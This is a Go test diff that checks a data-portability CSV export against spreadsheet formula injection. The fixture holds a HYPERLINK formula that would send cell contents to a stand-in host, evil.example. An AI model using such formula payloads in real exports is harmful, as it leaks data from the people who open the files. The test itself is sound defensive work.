@@ -584,3 +584,40 @@ func TestErasureSuppressesMarketing(t *testing.T) {
 		t.Fatalf("re-imported after erasure: got %s, want suppressed", r)
 	}
 }
+
+// TestExportCSVIsInert: values that a spreadsheet would run as formulas (CSV injection) reach
+// the portability package's CSV files with a leading apostrophe, so opening profile.csv never
+// runs them; the JSON keeps the value as it is.
+func TestExportCSVIsInert(t *testing.T) {
+	e := newEnv(t, "")
+	id := e.create(`{"email":"formula@example.com","first_name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")","last_name":"@SUM(1+1)"}`)
+	rid := e.request(`{"type":"portability","customer_id":"` + id + `"}`)
+	code, body := e.verifyAndComplete(rid, "")
+	var done struct {
+		Result struct {
+			DownloadURL string `json:"download_url"`
+		}
+	}
+	if err := json.Unmarshal([]byte(body), &done); code != 200 || err != nil {
+		t.Fatalf("complete: got %d %s", code, body)
+	}
+	resp, err := http.Get(e.srv.URL + done.Result.DownloadURL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	zipped, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	files := unzip(t, zipped)
+	csv := files["profile.csv"]
+	if !strings.Contains(csv, `"'=HYPERLINK(`) || !strings.Contains(csv, "'@SUM(1+1)") {
+		t.Fatalf("formulas not neutralised in profile.csv:\n%s", csv)
+	}
+	for _, line := range strings.Split(csv, "\n") {
+		if _, cell, ok := strings.Cut(line, ","); ok && strings.ContainsAny(cell[:min(1, len(cell))], "=@") {
+			t.Errorf("a cell starts a formula: %q", line)
+		}
+	}
+	if !strings.Contains(files["export.json"], `=HYPERLINK(`) {
+		t.Errorf("export.json lost the value as given")
+	}
+}
